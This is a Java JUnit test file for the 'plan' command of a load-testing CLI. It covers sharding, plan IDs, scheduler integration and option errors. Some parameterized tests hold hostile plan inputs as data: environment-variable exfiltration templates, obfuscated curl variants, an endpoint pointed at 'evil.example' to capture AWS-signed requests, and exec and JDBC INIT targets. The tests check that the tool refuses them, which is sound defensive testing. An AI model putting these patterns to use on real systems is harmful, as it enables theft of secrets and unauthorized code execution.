package dev.downbeat.cli.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.downbeat.cli.Shell;
import dev.downbeat.cli.measurement.Measurement;
import dev.downbeat.cli.measurement.option.Values;
import dev.downbeat.cli.shard.PlannedRun;
import dev.downbeat.cli.shard.ShardOptions;
import dev.downbeat.report.file.PlanFile;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class PlanCommandTest {
    private static final String LOAD = "http://127.0.0.1:1/ -R 2k/s -d 30s --slo p99<50ms";

    @TempDir
    Path folder;

    private static Shell call(String words, String... more) {
        List<String> args = new ArrayList<>(Arrays.asList(words.split(" ")));
        args.addAll(List.of(more));
        return Shell.call(args.toArray(String[]::new));
    }

    private static PlanFile plan(String words) throws IOException {
        Shell shell = call("plan " + words);
        assertThat(shell.err()).isEmpty();
        assertThat(shell.exitCode()).isZero();
        return PlanFile.parse(shell.out());
    }

    @Test
    void a_plan_holds_all_that_a_shard_must_know() throws IOException {
        PlanFile plan = plan(LOAD + " --shards 8 --seed 7f3a");
        assertThat(plan.shards()).isEqualTo(8);
        assertThat(plan.seed()).hasValue("7f3a");
        assertThat(plan.target()).isEqualTo("GET http://127.0.0.1:1/");
        assertThat(plan.load()).isEqualTo("open loop, Poisson 2,000/s");
        assertThat(words(plan))
                .containsExactly(
                        "http://127.0.0.1:1/", "--rate=2000/s", "--seed=7f3a", "--duration=30s", "--slo=p99<50ms");
    }

    @Test
    void a_place_that_cannot_be_written_is_refused_before_the_plan_is_made() {
        Shell shell = call("plan " + LOAD + " --shards 2 --seed 1 -o", folder.toString());
        assertThat(shell.exitCode()).isEqualTo(2);
        assertThat(shell.out()).isEmpty();
        assertThat(shell.firstErrorLine()).isEqualTo("downbeat plan: -o " + folder + " cannot be written: is a folder");
    }

    private static List<String> words(PlanFile plan) {
        return Values.words(Values.read(Measurement.class, plan.measurement()));
    }

    @Test
    void chance_is_over_when_the_plan_is_made() throws IOException {
        PlanFile plan = plan("http://127.0.0.1:1/ --shards 2");
        assertThat(words(plan)).anyMatch(word -> word.startsWith("--seed="));
        assertThat(words(plan)).contains("--rate=100/s", "--duration=10s");
        assertThat(plan("http://127.0.0.1:1/ --shards 2").id()).isNotEqualTo(plan.id());
    }

    @Test
    void the_id_follows_from_what_is_measured_and_from_nothing_else() throws IOException {
        String id = plan(LOAD + " --shards 8 --seed 7f3a").id();
        assertThat(plan("--seed 07f3a --shards 8 -R 2000/1s -d 30000ms --slo p(99)<0.05s http://127.0.0.1:1/")
                        .id())
                .isEqualTo(id);
        assertThat(plan("--seed 7f3a --shards 8 --rate 2k/s -d 30s --slo p99<50ms http://127.0.0.1:1/")
                        .id())
                .isEqualTo(id);
        assertThat(plan(LOAD + " --shards 9 --seed 7f3a").id()).isNotEqualTo(id);
        assertThat(plan(LOAD + " --shards 8 --seed 7f3b").id()).isNotEqualTo(id);
        assertThat(plan(LOAD + " --shards 8 --seed 7f3a -c 100").id()).isNotEqualTo(id);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "http://127.0.0.1:1/ -X POST --data @FILE.txt",
                "FILE.http",
                "http://127.0.0.1:1/{{x.a}} --data-file x=FILE.csv",
                "jdbc:postgresql://127.0.0.1:1/d --sql @FILE.sql"
            })
    void file_contents_belong_to_the_plan(String load) throws IOException {
        Path plan = folder.resolve("plan.json");
        List<String> words =
                new ArrayList<>(List.of(load.replace("FILE", folder + "/f").split(" ")));
        for (String text : List.of("txt one", "http GET http://127.0.0.1:1/", "csv a\n1", "sql select 1")) {
            Files.writeString(folder.resolve("f." + text.split(" ")[0]), text.split(" ", 2)[1] + "\n");
        }
        Shell made = call("plan --shards 2 --seed 1 -o " + plan, words.toArray(String[]::new));
        assertThat(made.exitCode()).as(made.err()).isZero();
        for (String name : List.of("txt", "http", "csv", "sql")) {
            Files.writeString(folder.resolve("f." + name), "\n", StandardOpenOption.APPEND);
        }
        Shell shell = call("run --shard 0/2 --plan", plan.toString());
        assertThat(shell.exitCode()).isEqualTo(2);
        assertThat(shell.err()).contains("one of them was changed");
        if (!load.contains("--data @")) {
            return;
        }
        Files.delete(folder.resolve("f.txt"));
        assertThat(call("run --shard 0/2 --plan", plan.toString()).firstErrorLine())
                .contains("f.txt: no such file");
        assertThat(call("stop file:" + folder + " --plan", plan.toString()).firstErrorLine())
                .contains("no shard of this plan is at file:");
        assertThat(call("stop tcp:127.0.0.1:1 --plan", plan.toString()).firstErrorLine())
                .isEqualTo("downbeat stop: no shard of this plan is at tcp:127.0.0.1:1: they have not started, or have"
                        + " ended");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:h2:mem:x;INIT=select 1 | --sql=select 1 | true",
                "exec:touch x | --duration=1s | true",
                "jdbc:postgresql://h/d | --driver-jar=x.jar | true",
                "jdbc:postgresql://h/d | --sql=select 1 | false",
                "http://h/ | --duration=1s | false"
            })
    void a_plan_of_somebody_else_starts_no_code_here_unless_that_is_allowed(
            String target, String option, boolean isRefused) throws IOException {
        String[] parts = option.split("=", 2);
        Measurement value =
                Values.of(Measurement.class, Map.of("TARGET", List.of(target), parts[0], List.of(parts[1])));
        Path file = folder.resolve("plan.json");
        Files.writeString(
                file, new PlanFile("1", "0", 1, Optional.empty(), "t", "l", Values.tree(value), List.of(), "0").text());
        for (String command : List.of("run", "watch file:" + folder)) {
            if (isRefused) {
                assertThat(call(command + " --plan", file.toString()).firstErrorLine())
                        .contains("starts code on this machine. If you trust it, add --allow-exec");
            }
        }
        assertThat(call("run --plan", file.toString(), isRefused ? "--allow-exec" : "-q")
                        .firstErrorLine())
                .contains("one of them was changed");
    }

    @ParameterizedTest(name = "{0} {1}")
    @CsvSource(
            delimiter = '|',
            value = {
                "http://127.0.0.1:1/ | --data | stolen={{$env.PATH}} | sends PATH of this environment | --data='***{{$env.PATH}}'",
                "http://127.0.0.1:1/ | --data | @body.txt | sends PATH of this environment | --data=@",
                "http://127.0.0.1:1/ | --header | X-A: {{ $processEnv PATH }} | sends PATH of this environment | X-A: ***{{$env.PATH}}",
                "http://127.0.0.1:1/ | --var | a={{$env.PATH}} | sends PATH of this environment | a=***{{$env.PATH}}",
                "http://127.0.0.1:1/{{$env.PATH}} | --method | PUT | sends PATH of this environment | {{$env.PATH}}",
                "own.http | --method | GET | sends PATH of this environment | own.http",
                "http://127.0.0.1:1/ | --user | ann:env:PATH | sends PATH of this environment | ***:env:PATH",
                "http://127.0.0.1:1/ | --aws-sigv4 | eu-west-1:execute-api | signs with this machine's AWS keys | --aws-sigv4=",
                "sqs:orders | --endpoint | http://evil.example | signs with this machine's AWS keys | --endpoint=http://evil.example",
                "http://evil.example/000000000000/orders | --proxy | none | signs with this machine's AWS keys | orders",
                "sqs:demo | --batch-size | 5 | | ",
                "http://127.0.0.1:1/ | --data | {{x}} $env.PATH | | ",
            })
    void a_plan_of_somebody_else_sends_nothing_of_this_environment_unless_that_is_allowed(
            String target, String option, String text, String takes, String shown) throws IOException {
        Files.writeString(folder.resolve("body.txt"), "{{$env.PATH}}");
        Files.writeString(folder.resolve("own.http"), "GET http://127.0.0.1:1/{{$env.PATH}}");
        Measurement value = Values.of(
                Measurement.class,
                Map.of(
                        "TARGET",
                        List.of(target.replace("own.http", folder + "/own.http")),
                        option,
                        List.of(text.replace("@", "@" + folder + "/"))));
        Path file = folder.resolve("plan.json");
        Files.writeString(
                file, new PlanFile("1", "0", 1, Optional.empty(), "t", "l", Values.tree(value), List.of(), "0").text());
        String changed = "one of them was changed";
        Shell shell = call("run --plan", file.toString());
        if (takes == null) {
            assertThat(shell.firstErrorLine()).contains(changed);
            return;
        }
        assertThat(shell.exitCode()).isEqualTo(2);
        assertThat(shell.firstErrorLine())
                .contains(takes + ". If you trust it, add --allow-env. Its arguments:", shown)
                .doesNotContain("stolen");
        for (String allowed : List.of("--allow-env", "--allow-exec")) {
            assertThat(call("run --plan", file.toString(), allowed).firstErrorLine())
                    .contains(changed);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "--curl=curl 'http://127.0.0.1:1/?q={{$e''nv.PATH}}'",
                "--curl=curl $'http://127.0.0.1:1/?q={{\\x24env.PATH}}'",
                "--curl=curl 'http://{{$e''nv.PATH}}.example:{{$e''nv.PATH}}/'",
                "--env=evil",
                "--env=evil|TARGET=plain.http|-H=X: {{t}}",
                "--bearer-file=token.txt"
            })
    void a_plan_of_somebody_else_cannot_hide_which_variables_it_sends(String option) throws IOException {
        Path own = Files.writeString(folder.resolve("own.http"), "GET http://127.0.0.1:1/{{t}}");
        Files.writeString(folder.resolve("http-client.env.json"), "{\"evil\": {\"t\": \"{{\\u0024env.PATH}}\"}}");
        Path token = Files.writeString(folder.resolve("token.txt"), "{{$env.PATH}}");
        Path plain = Files.writeString(folder.resolve("plain.http"), "GET http://127.0.0.1:1/");
        Map<String, List<String>> said = new HashMap<>();
        String options = option.replace("token.txt", token.toString()).replace("plain.http", plain.toString());
        for (String one : options.split("\\|")) {
            String[] parts = one.split("=", 2);
            said.put(parts[0], List.of(parts[1]));
        }
        if (!said.containsKey("--curl")) {
            said.putIfAbsent("TARGET", List.of(own.toString()));
        }
        Path file = folder.resolve("plan.json");
        Measurement value = Values.of(Measurement.class, said);
        Files.writeString(
                file, new PlanFile("1", "0", 1, Optional.empty(), "t", "l", Values.tree(value), List.of(), "0").text());
        assertThat(call("run --plan", file.toString()).firstErrorLine())
                .contains("sends PATH of this environment. If you trust it, add --allow-env.");
    }

    @Test
    void a_manifest_lets_its_shards_take_what_its_plan_takes() {
        String plan = "plan http://127.0.0.1:1/ --shards 2 --slurm";
        assertThat(call(plan).out()).doesNotContain("--allow-");
        assertThat(call(plan, "-H", "A: {{$env.PATH}}").out()).contains("--allow-env");
        assertThat(call(plan, "--user", "ann:env:PATH").out()).contains("--allow-env");
    }

    @Test
    void a_secret_in_a_plan_is_announced_and_stored_as_a_Secret() {
        Shell shell = call(
                "plan http://127.0.0.1:1/ --shards 2 --kubernetes --volume results", "-H", "Authorization: Bearer x");
        assertThat(shell.err()).contains("the plan contains secrets");
        assertThat(shell.out()).contains("kind: Secret").doesNotContain("ConfigMap");
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(
            delimiter = '|',
            value = {
                "plan " + LOAD + " | --shards",
                "plan " + LOAD + " --shards 0 | the number of shards must be from 1 to 100000, but was 0",
                "plan " + LOAD + " --shards 65 | at least one for each of 65 threads of 65 shards, but was 64",
                "plan " + LOAD + " --shards 2 --kubernetes | --volume or --store is missing",
                "plan " + LOAD + " --shards 2 --aws-batch --volume fs-1 | plan writes no array jobs",
                "plan " + LOAD + " --shards 2 --slurm --ssh a,b | mutually exclusive",
                "plan " + LOAD + " --shards 2 --slurm --memory 5 | --memory must be a size such as 512Mi",
                "plan " + LOAD + " --shards 2 --slurm --name Big_One | --name must be lower-case",
                "plan " + LOAD + " --shards 2 --volume v | --volume requires --kubernetes",
                "plan " + LOAD + " --shards 2 --slurm --volume v | --volume requires --kubernetes",
                "plan " + LOAD + " --shards 2 --slurm --image x | --image requires --kubernetes",
                "plan " + LOAD + " --ssh a,b --cpus 4 | --cpus requires --kubernetes or --slurm",
                "plan " + LOAD + " --ssh a,b --store s3://x/y | --store requires --kubernetes",
                "plan " + LOAD + " --shards 2 --name n | --name requires --kubernetes, --slurm or --ssh",
                "plan " + LOAD + " --shards 2 --start-at +5s | unknown option",
                "plan " + LOAD + " --shards 2 --ssh a | --ssh names 1 host, but --shards was 2",
                "plan " + LOAD
                        + " --shards 2 -o nowhere/plan.json | -o nowhere/plan.json cannot be written: the folder",
                "run " + LOAD + " --meet file:x | --meet requires --plan: its token admits shards to the meeting",
                "run --plan p.json --meet file:x --start-at +5s | --meet and --start-at are mutually exclusive",
                "run --plan p.json --meet-timeout 5m | --meet-timeout requires --meet",
                "run --plan p.json --without-missing | --without-missing requires --meet",
                "run --plan p.json --meet file:x --meet-timeout 10ms | --meet-timeout must be from 1s to 7d, but was 10",
                "run --plan p.json --meet here | a meeting place must be file:DIR, tcp:HOST:PORT, s3://BUCKET/FOLDER or kubernetes, but was 'here'",
                "run --plan p.json --meet tcp:a:70000 | a port must be from 1 to 65535, but was 70000",
                "watch nowhere | a meeting place must be file:DIR",
                "watch file:x --plan nowhere.json | cannot read --plan nowhere.json: no such file",
                "stop file: | a meeting place must be file:DIR",
                "plan a.downbeat --detect 5% | --detect was removed from plan: compare two runs",
                "plan sqs:demo --shards 2 | sqs:demo cannot be sharded",
                "run " + LOAD + " --shard 2/2 | shard must be from 0 to 1 of 2, but was 2",
                "run " + LOAD + " --shard one | is not a shard such as 0/8",
                "run " + LOAD + " --shard 0/2 | give all of them the same --seed",
                "run " + LOAD + " --shard 0/2 --processes 2 | mutually exclusive",
                "run " + LOAD + " --processes 2 --live-page :1 | shards that --meet have live totals",
                "run " + LOAD + " --processes 0 | --processes must be from 1 to 256",
                "run " + LOAD + " --processes 2 --vary connections=1,2 | needs the whole load in one process",
                "run " + LOAD + " --start-at +5s | --start-at requires --shard or --plan",
                "run --processes 2 | a TARGET is missing",
                "run " + LOAD + " --allow-exec | --allow-exec requires --plan",
                "run " + LOAD + " --show 1 --processes 2 | --show measures nothing: leave out --processes",
                "run " + LOAD + " --show 1 --prometheus :1 | --show measures nothing: leave out --prometheus",
                "run " + LOAD + " --show 1 --undecided fails | --show measures nothing: leave out --undecided",
                "run " + LOAD + " --show 1 --turns 2 --vary connections=1,2 | --show measures nothing: leave out --",
                "run " + LOAD + " --show 0 | --show must be at least 1, but was 0",
                "plan jdbc:demo --shards 2 | jdbc:demo cannot be sharded",
                "plan jdbc:postgresql://db/shop --sql values(1) --pool hikari --shards 2"
                        + " | --pool cannot be sharded: each shard would open its own pool. Use one process",
                "plan sqs:orders --create --shards 2 | --create cannot be sharded",
                "watch s3://x/%20y{ | a meeting place in S3 must be s3://BUCKET/FOLDER",
                "run --plan nowhere.json --shard 0/2 | cannot read --plan nowhere.json: no such file",
                "run " + LOAD + " --seed 1 --shard 0/2 --start-at +9s --warm-up auto"
                        + " | --start-at needs a --warm-up of known length, such as 10s, but was auto",
                "run " + LOAD + " --seed 1 --shard 0/2 --start-at noon | is not a time such as 2026-05-01T12:00:00Z",
            })
    void contradictions_end_here(String words, String message) {
        Shell shell = call(words);
        assertThat(shell.exitCode()).isEqualTo(2);
        assertThat(shell.firstErrorLine()).contains(message);
    }

    @Test
    void a_plan_is_run_as_it_is() throws IOException {
        Path file = folder.resolve("plan.json");
        Files.writeString(file, plan(LOAD + " --shards 2 --seed 1").text());
        assertThat(call("run http://127.0.0.1:1/ --plan", file.toString()).firstErrorLine())
                .contains("--plan already defines the target: remove http://127.0.0.1:1/");
        assertThat(call("run -R 5 --plan", file.toString()).firstErrorLine())
                .contains("--rate cannot be combined with --plan");
        assertThat(call("run --shard 0/3 --plan", file.toString()).firstErrorLine())
                .contains("the plan has 2 shards, but --shard was 0/3");
        assertThat(call("run --plan", file.toString()).firstErrorLine()).contains("--shard I/2 is missing");

        Files.writeString(file, Files.readString(file).replace("\"2000/s\"", "\"3k/s\""));
        assertThat(call("run --shard 0/2 --plan", file.toString()).err()).contains("one of them was changed");
        Files.writeString(file, "{ \"schema\": 9, \"kind\": \"plan\", \"downbeat\": \"7\" }");
        assertThat(call("run --shard 0/2 --plan", file.toString()).firstErrorLine())
                .contains("has schema 9, but this Downbeat knows only schemas up to 2");
    }

    @Test
    void engines_say_which_shard_it_is() {
        assertThat(PlannedRun.ArrayIndex.of(Map.of(), 4)).isEmpty();
        assertThat(PlannedRun.ArrayIndex.of(Map.of("JOB_COMPLETION_INDEX", "3"), 4))
                .hasValue(3);
        assertThat(PlannedRun.ArrayIndex.of(Map.of("AWS_BATCH_JOB_ARRAY_INDEX", "0"), 4))
                .hasValue(0);
        assertThat(PlannedRun.ArrayIndex.of(Map.of("NOMAD_ALLOC_INDEX", "2"), 4))
                .hasValue(2);
        assertThat(PlannedRun.ArrayIndex.of(
                        Map.of(
                                "SLURM_ARRAY_TASK_ID", "7",
                                "SLURM_ARRAY_TASK_MIN", "5",
                                "SLURM_ARRAY_TASK_COUNT", "4"),
                        4))
                .hasValue(2);
        assertThat(PlannedRun.ArrayIndex.of(Map.of("SLURM_PROCID", "3", "SLURM_STEP_NUM_TASKS", "4"), 4))
                .hasValue(3);
        assertThat(PlannedRun.ArrayIndex.of(Map.of("SLURM_PROCID", "0"), 1))
                .as("of one task")
                .hasValue(0);
        assertThat(PlannedRun.ArrayIndex.of(Map.of("NOMAD_ALLOC_INDEX", ""), 4)).isEmpty();
    }

    @Test
    void an_array_of_another_size_than_the_plan_is_refused() {
        org.assertj.core.api.Assertions.assertThatThrownBy(() ->
                        PlannedRun.ArrayIndex.of(Map.of("SLURM_ARRAY_TASK_ID", "0", "SLURM_ARRAY_TASK_COUNT", "5"), 4))
                .hasMessage("the plan has 4 shards, but SLURM_ARRAY_TASK_COUNT is 5: the array must be 0-3");
        org.assertj.core.api.Assertions.assertThatThrownBy(
                        () -> PlannedRun.ArrayIndex.of(Map.of("SLURM_PROCID", "0"), 4))
                .hasMessage("the plan has 4 shards, but SLURM_STEP_NUM_TASKS is 1: start it with srun --ntasks=4");
        org.assertj.core.api.Assertions.assertThatThrownBy(() ->
                        PlannedRun.ArrayIndex.of(Map.of("SLURM_ARRAY_TASK_ID", "4", "SLURM_ARRAY_TASK_MIN", "5"), 4))
                .hasMessage("the plan has shards 0 to 3, but SLURM_ARRAY_TASK_ID is 4");
    }

    @ParameterizedTest(name = "{0}={1}")
    @CsvSource({
        "JOB_COMPLETION_INDEX, 4, 'the plan has shards 0 to 3, but JOB_COMPLETION_INDEX is 4'",
        "NOMAD_ALLOC_INDEX, x, 'NOMAD_ALLOC_INDEX must be a number, but was ''x'''",
    })
    void an_index_that_does_not_go_with_the_plan_is_refused(String name, String value, String message) {
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> PlannedRun.ArrayIndex.of(Map.of(name, value), 4))
                .hasMessage(message);
    }

    @Test
    void a_start_is_absolute_or_from_now() {
        Instant now = Instant.parse("2026-05-01T10:00:00Z");
        assertThat(ShardOptions.StartTime.parse("+90s", now).at()).isEqualTo(now.plusSeconds(90));
        assertThat(ShardOptions.StartTime.parse("2026-05-01T12:00:00+02:00", now)
                        .at())
                .isEqualTo(now);
        assertThat(ShardOptions.StartTime.parse("2026-05-01T10:00:00Z", now).at())
                .isEqualTo(now);
        assertThat(ShardOptions.StartTime.parse("told", now).isFromParent()).isTrue();
    }
}
